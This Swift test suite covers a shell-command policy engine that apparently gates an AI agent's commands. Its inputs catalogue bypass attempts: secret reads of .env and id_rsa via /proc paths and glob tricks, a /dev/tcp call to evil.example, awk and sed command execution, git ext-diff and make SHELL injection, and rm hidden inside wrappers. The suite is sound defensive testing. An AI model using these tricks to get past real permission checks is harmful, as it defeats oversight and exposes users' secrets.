// What an attacker of the engine once got past it: each really did more than its policy's author meant.
import PolicyDecision
import PolicyModel
import Testing

@Suite struct AttackTests {
    private func preset(_ name: String) throws -> Engine {
        try Engine([Tier(.session, Policy.load("preset:\(name)") { (_) throws(FileReadFailure) in throw .missing })])
    }

    @Test(arguments: [
        // `--` ends nothing for find and test.
        "find -- . -exec touch PWNED ';'", "find -- sub -delete", "test -- -a -v 'a[$(touch PWNED)]'",
        // The text of sed's a, i and c is read in two ways.
        "sed 'a\\\\\ne touch PWNED' f", "sed -n -e '$!d' -e 'i\\\\' -e 'e id' f", "sed 'a\\ \ne touch P' f",
        "sed 'i\\\t\nw P' f",
        // %n assigns, and PATH is a variable.
        "printf %n PATH; ls", "printf 'd%-5n' PATH", "printf '%\\x6e' PATH", "printf *",
        // A filter reads modules and the environment.
        "jq -n 'import \"service-account\" as $x {search:\"./\"}; $x'", "jq -n env",
        "awk 'BEGIN{print ENVIRON[\"TOKEN\"]}'",
        // A cluster that is none, a glob that is more than it looks.
        "head -9999c .env", "tail -9999c .env", "cat .e[[.n.]]v", "cat .e[[=n=]]v", "rg -uu -g '{.env,x}' ''",
        "git blame .env", "git grep -e . -- '.en?'", "git grep -e . -- ':(icase).ENV'",
        "git show HEAD:.env",
        "git --help status", "valgrind ls", "exec -a rm ls f", "xvfb-run ls", "busybox ls",
    ]) func neverAllowed(_ command: String) throws {
        for engine in try [preset("readonly"), preset("agent"), Narrow.engine()] {
            #expect(engine.judge(command).decision != .allow)
        }
    }

    /// Found by the second attack: allowed by the presets, and more than it looks like.
    @Test(arguments: [
        // To Swift a quote with an accent is no quote.
        "git log -- \"'\u{301};touch pwned;'\u{301}\" | cat", "cat \u{212A}EYS", "ls -\u{300}", "ls \u{37E}",
        "git log -- $'a\rb' | cat",
        // awk ends a number where a word begins; seds end brackets in different places.
        "awk 'BEGIN{x=1system(\"touch pwned\")}'", "awk '{print 1getline x <\"/etc/passwd\"}' f",
        "awk '{x=0x1fsystem(\"id\")}' f", "sed '/[[...]]/p;s/.]]/!e touch pwned #/' f", "sed 's/[[=a=]/e]/x/' f",
        "sed 'v;s/[/e/' f",
        // Options without a value of their own, and what a repository's configuration can name.
        "git diff -U --ext-diff HEAD", "git log -p -U --ext-diff -1", "git show -U --output=../outside/x",
        "git diff --submodule=diff", "git show --remerge-diff", "git log -p --diff-merges=remerge",
        "head -n --version f",
        // Quotes within a pattern.
        "cat .en[a\\]v]", "cat .en[\"!\"v]", "cat [a\\]l]/o", "cat '\\'?", "ls a\"*\"b?",
        // The working directory and root by another name, and what is no file at all.
        "cat /proc/1/cwd/.env", "cat /proc/self/fd/3/../.env", "cat </dev/tcp/evil.example/80",
        "cat </proc/self/cwd/.env", "cat /proc/self/root/work/tree/.env", "cat /proc/thread-self/cwd/.env",
        "cat /proc/self/task/7/cwd/.env",
        // What shells make of a dot and a question mark, and of a circumflex.
        "cat .?/outside", "grep -r '' .?", "ls .?", "ls ./.*", "sh -c 'cat .[^e]nv'", "sh -c 'cat [^i]d'",
        // What the repository's configuration names, what a commit has of a secret, and options in files.
        "git status -v", "git status --verbose -v", "git cat-file --batch", "git log -p -- .env", "git log -L1,9:.env",
        "git show HEAD -- .env", "git diff-tree -p HEAD .env", "git show :.env",
        // A file that an earlier command made becomes an option.
        "touch ./--files0-from=x && wc ??files0-from=x", "touch ./-f && grep x ?f", "ls > ./-f; sed *",
        "{ wc ??files0-from=x; } > ./--files0-from=x", "sh -c 'wc ??files0-from=x' > ./--files0-from=x",
        "touch ./--files0-from=x && wc ??files0-from=x --", "for i in a b; do wc ??x > ./--files0-from=x; done",
        // Where brackets end.
        "awk '/[]/] ; /; system(\"id\"); x=0/1'", "awk '/[[:alpha:]/] ; /; system(\"id\"); x=0/1'",
        "cat []\"]\"i]d_rsa", "cat [[:digit:]\"]\"i]d_rsa",
        "git show :0:.env", "git show :2:sub/.env", "awk \"$x\" f", "sed -e \"$x\" f",
        // Bytes that end a label or a comment to some seds.
        "sed '#\rw out'", "sed 'ba\u{b}wP'", "awk '{print > \"x\"}' f", "awk '{print $1 | \"sh\"}' f",
        "awk '{print($1)>\"x\"}' f", "awk 'BEGIN{\"id\" | getline x}'", "awk '/\"/{print > \"\"f}' f",
        // Archives on other machines, and scripts in targets.
        "tar -tf evil.example:x", "tar tf evil.example:x", "make SHELL=/usr/bin/touch .SHELLFLAGS=pwned",
    ]) func neverAllowedEither(_ command: String) throws {
        let making = try Narrow.policy(
            """
            version = 1
            extends = ["preset:readonly"]
            [[command]]
            argv = ["make", "..."]
            decision = "allow"
            [[command]]
            argv = ["tar", "..."]
            decision = "allow"
            """)
        for engine in try [preset("readonly"), preset("agent"), Narrow.engine(), Engine([Tier(.session, making)])] {
            let verdict = engine.judge(command)
            #expect(verdict.decision != .allow, "\(verdict)")
        }
    }

    /// What a name leads to counts, also where that does not exist yet, and where it has another name's characters.
    @Test(arguments: [
        ("cat k", Decision.deny), ("touch dangling", .deny), ("ls > dangling", .deny), ("cat \u{C5}x", .deny),
        ("cat odd", .ask), ("cat plain", .allow), ("touch plain", .allow),
        ("cat \(String(repeating: "./", count: 2040))k", .deny),
        ("cat \(String(repeating: "a/../", count: 810))k", .deny),
    ]) func linksAreFollowed(_ command: String, _ expected: Decision) throws {
        let policy = try Narrow.policy(
            Narrow.allowing(
                "cat ...", "touch ...", "ls ...",
                and: """
                    [fs]
                    read = ["${workspace}"]
                    write = ["${workspace}"]
                    deny = ["**/.env", "**/\u{212B}x"]
                    """))
        let engine = try Engine([Tier(.session, policy)]) { path in
            switch path.split(separator: "/").last {
            case "k": Narrow.workspace + "/.env"
            case "dangling": "/outside/new"
            case "\u{C5}x": Narrow.workspace + "/\u{212B}x"
            case "odd": nil
            default: path
            }
        }
        #expect(engine.judge(command).decision == expected, "\(engine.judge(command).evidence)")
    }

    /// A command that changes its own directory writes there, and one that starts elsewhere reads there.
    @Test(arguments: [
        "find ../outside -name o -execdir sort -o written o ';'", "env -C ../outside sort -o written2 o",
        "env --chdir=/etc sort -o x o", "find . -exec sort f -o \u{37E} ';'",
        "find . -type f -exec sh -c \"ls {}\u{301}\" ';'", "ls | xargs -I% sh -c \"ls %\u{301}\" --",
    ]) func directoriesAreFollowed(_ command: String) throws {
        let engine = try Narrow.engine(
            """
            version = 1
            [[command]]
            argv = ["sort", "..."]
            decision = "allow"
            [[command]]
            argv = ["find", "..."]
            flags = { allow = ["-execdir", "-exec", "-name", "-type"] }
            decision = "allow"
            [[command]]
            argv = ["env", "..."]
            flags = { allow = ["-C", "--chdir"] }
            decision = "allow"
            [[command]]
            argv = ["ls", "..."]
            decision = "allow"
            [fs]
            read = ["${workspace}", "/work/outside"]
            write = ["${workspace}"]
            """)
        #expect(engine.judge(command).decision != .allow)
        #expect(engine.judge("sort -o written o").decision == .allow)
        let elsewhere = CommandRequest(.string(Array("ls".utf8)), workspace: Narrow.workspace, directory: "/etc")
        #expect(engine.judge(elsewhere).decision == .deny)
    }

    /// Short strings that took minutes.
    @Test func boundedTime() throws {
        let names = (1...500).map { "a\($0)" }
        let policy = try Narrow.policy(
            """
            version = 1
            extends = ["preset:readonly"]
            [fs]
            deny = ["**/secrets/**/private/**/*.key"]
            """)
        let engine = try Engine(
            [Tier(.session, policy)], resolve: { $0 },
            expand: { directory, _ in names.map { directory + "/" + $0 } })
        let commands = [
            (1...2000).map { "cd d\($0);" }.joined(),
            "cd a;cd b;cd c;cd d; ls" + (1...350).map { " /usr/*/*z\($0)" }.joined(),
            "ls" + String(repeating: " a*", count: 1300),
            "ls [sp]*[es]" + String(repeating: "/[sp]*[es]", count: 400),
        ]
        for command in commands {
            let took = ContinuousClock().measure { #expect(engine.judge(command).decision != .deny) }
            // Seconds, in a debug build: what is tested is that it is not minutes.
            #expect(took < .seconds(30), "\(command.prefix(30))")
        }
    }

    /// A pattern is several words, the last of which uniq writes.
    @Test func patternsTakeEveryPlace() throws {
        #expect(try preset("readonly").judge("uniq *.txt").decision == .deny)
    }

    @Test func nulInArgv() throws {
        let request = CommandRequest(.argv(["cat", ".env\0x"]), workspace: Narrow.workspace)
        #expect(try Narrow.engine().judge(request).decision == .deny)
    }

    /// libtree-sitter counts the children of a node in 16 bits.
    @Test(arguments: ["#\n", "#a\n", "ls\n", "ls;", " ", "a "]) func manyPieces(_ piece: String) throws {
        let engine = try Narrow.engine()
        for count in [29_999, 65_534, 65_535, 65_536, 140_000] {
            _ = engine.judge(String(repeating: piece, count: count))
        }
    }

    /// A project's file is a stranger's: its rewrites are not made.
    @Test func projectsDoNotRewrite() throws {
        let project = try Narrow.policy(
            "version = 1\n[[command]]\nargv = [\"git\", \"diff\", \"...\"]\ndecision = \"allow\"\nrewrite = { config = [\"diff.external=touch PWNED;:\"] }\n"
        )
        let session = try Policy.load("preset:readonly") { (_) throws(FileReadFailure) in throw .missing }
        let verdict = try Engine([Tier(.project, project), Tier(.session, session)]).judge("git diff")
        #expect(verdict.decision == .allow && verdict.argv?.contains { $0.contains("PWNED") } == false)
        #expect(verdict.argv?.contains("--no-ext-diff") == true)
    }

    /// Denied patterns count wherever they start.
    @Test(arguments: ["cat /usr/share/base-file?/motd", "cat conf/r*"]) func denialsFromTheRoot(_ command: String)
        throws
    {
        let policy = """
            version = 1
            [[command]]
            argv = ["cat", "..."]
            decision = "allow"
            [fs]
            read = ["/usr", "${workspace}"]
            deny = ["/usr/share/base-files", "/work/tree/conf/rs"]
            """
        #expect(try Narrow.engine(policy).judge(command).decision == .ask)
    }

    @Test(arguments: [
        "sort -o f g", "env - rm x", "env -S 'rm x'", "xargs -I% sh -c '% x'", "find m -exec sh -c 'r{} x' ';'",
        "sh +e -c 'rm x'", "bash -c +e 'rm x'", "echo 'rm x' | bash -v", "sh -h <f", "echo x | python3 -v",
        "awk 'BEGIN{system(\"x\")}'", "sed '1e id' f", "sh <<< 'rm x'", "echo 'rm x' | sh", "bash --rcfile f -c 'rm x'",
        "env -i - rm x",
        "busybox rm x",
        "rm other secret", "sort -og f",
    ]) func denialsAreNotEvaded(_ command: String) throws {
        let policy = """
            version = 1
            [defaults]
            command = "allow"
            opaque = "deny"
            [[command]]
            argv = ["rm", "..."]
            decision = "deny"
            [[command]]
            argv = ["sort", "--output", "..."]
            decision = "deny"
            """
        #expect(try Narrow.engine(policy).judge(command).decision == .deny)
    }

    @Test(arguments: [
        "echo 'gitdir: ../n' > s/.git", "cp x .git/commondir", "echo ../n > .git/objects/info/alternates",
    ])
    func gitIsNotLedAway(_ command: String) throws {
        #expect(try preset("agent").judge(command).decision != .allow)
    }

    /// Where nobody else has a word about commands, a project's is not enough.
    @Test func aProjectAloneAllowsNothing() throws {
        let session = try Narrow.policy("version = 1\n[fs]\nread = [\"${workspace}\"]\n")
        let projects = [
            "[[command]]\nargv = [\"make\"]\ndecision = \"allow\"\n",
            "[defaults]\ncommand = \"allow\"\nopaque = \"allow\"\n",
        ]
        for text in projects {
            let engine = try Engine([Tier(.project, Narrow.policy("version = 1\n" + text)), Tier(.session, session)])
            #expect(engine.judge("make").decision == .ask && engine.judge("$(make)").decision == .ask)
        }
    }

    /// An allow has to hold wherever a `cd` may have led.
    @Test func classesHoldWhereverTheCommandIs() throws {
        let engine = try Narrow.engine(
            Narrow.allowing("cd <any>", "frob <workspace>", and: "[fs]\nread = [\"/\"]"))
        #expect(engine.judge("frob x").decision == .allow)
        #expect(engine.judge("cd /elsewhere && frob x").decision == .ask)
    }

    /// Rules of any class: an operand that runs something is never one of it.
    @Test(arguments: [
        "make SHELL=./evil", "awk 'BEGIN{system(\"id\")}' f", "jq 'env' f", "gcc -c @options x.c", "nm @options",
        "less +!id", "printf %n PATH",
    ]) func powerfulOperands(_ command: String) throws {
        let program = String(command.prefix { $0 != " " })
        for pattern in ["<any>...", "<path>...", "<workspace>...", "<glob:*>..."] {
            let engine = try Narrow.engine(
                """
                version = 1
                [[command]]
                argv = ["\(program)", "\(pattern)"]
                flags = { allow = ["-c"] }
                decision = "allow"
                [fs]
                read = ["${workspace}"]
                """)
            #expect(engine.judge(command).decision != .allow, "\(pattern)")
        }
    }

    /// A rule that has such a word itself means it.
    @Test func spelledOut() throws {
        let engine = try Narrow.engine(
            """
            version = 1
            [[command]]
            argv = ["make", "CC=clang"]
            decision = "allow"
            """)
        #expect(engine.judge("make CC=clang").decision == .allow)
        #expect(engine.judge("make CC=./evil").decision != .allow)
    }

    /// Nobody further down changes what the owner's rewrite sets, and no mask takes it away.
    @Test func theOwnersVariableCounts() throws {
        func tier(_ name: Tier.Name, _ value: String) throws -> Tier {
            Tier(
                name,
                try Narrow.policy(
                    """
                    version = 1
                    [[command]]
                    argv = ["git", "log"]
                    decision = "allow"
                    rewrite = { env_set = ["GIT_ALLOW_PROTOCOL=\(value)"] }
                    """))
        }
        let engine = try Engine([tier(.system, ""), tier(.session, "ext")])
        #expect(engine.judge("git log").environmentSet == ["GIT_ALLOW_PROTOCOL="])
    }

    /// What a rewrite sets is there in every form that is executed.
    @Test func rewritesSetVariables() throws {
        let engine = try preset("agent")
        let simple = engine.judge("git log -1")
        #expect(simple.environmentSet == ["GIT_ALLOW_PROTOCOL="] && simple.argv?.first == "git")
        let compound = engine.judge("cd src && git log -1 | cat")
        #expect(compound.command?.contains("'env' 'GIT_ALLOW_PROTOCOL=' 'git' ") == true, "\(compound)")
    }

    private func denyingRm() throws -> Engine {
        try Narrow.engine(
            """
            version = 1
            [defaults]
            command = "allow"
            opaque = "allow"
            [[command]]
            id = "no-rm"
            argv = ["rm", "..."]
            decision = "deny"
            """)
    }

    /// Programs that run what the table cannot tell: the denied name anywhere in their words is enough.
    @Test(arguments: [
        "setarch x86_64 rm x", "setarch -R rm x", "linux64 rm x", "sudo -h host rm x", "zsh -c 'rm x'",
        "fish -c 'cd y; rm x'",
        "tmux new-session -d 'rm x'", "tmux send-keys 'rm x' Enter", "bwrap --ro-bind / / rm x",
        "firejail --net=none rm x",
        "nsenter -t 1 -m rm x", "docker exec c rm x", "docker run -v /:/h i /bin/rm x", "gdb -ex run --args rm x",
        "fd -x rm", "less +!rm f", "man -P rm ls", "env -S 'rm x'", "git -c alias.x='!rm x' x", "make SHELL=/bin/rm",
        "sort --compress-program=rm f", "awk 'BEGIN{system(\"rm x\")}'", "sed 's/x/rm y/e' f", "uv run rm x",
        "poetry run rm x", "bundle exec rm x", "direnv exec . rm x", "faketime x rm y", "expect -c 'spawn rm x'",
        "start-stop-daemon --start --exec /bin/rm -- x", "sudo zsh -c \"x; rm x\"",
    ]) func hiddenInOtherPrograms(_ command: String) throws {
        let verdict = try denyingRm().judge(command)
        #expect(verdict.decision == .deny && verdict.evidence.contains { $0.rule == "no-rm" }, "\(verdict.evidence)")
    }

    /// The same word where it is no program.
    @Test(arguments: [
        "npm rm left-pad", "docker rm c", "docker image rm c", "cargo rm serde", "make rm", "bash tool.sh rm",
        "aws s3 rm s3://x",
        "python3 rm.py", "git remote rm origin", "git commit -m 'rm x'", "pip install rm", "grep rm f", "sed -n 1p rm",
        "awk '/rm/' f", "man rm", "sudo ls rm", "timeout 5 ls rm",
    ]) func noFalseAlarm(_ command: String) throws {
        let verdict = try denyingRm().judge(command)
        #expect(verdict.decision == .allow, "\(verdict.evidence)")
    }

    /// So many names that trying them all would take its time.
    @Test func manySuspects() throws {
        let verdict = try denyingRm().judge("zsh -c '" + String(repeating: "rm ", count: 10_000) + "'")
        #expect(verdict.decision != .allow)
    }
}
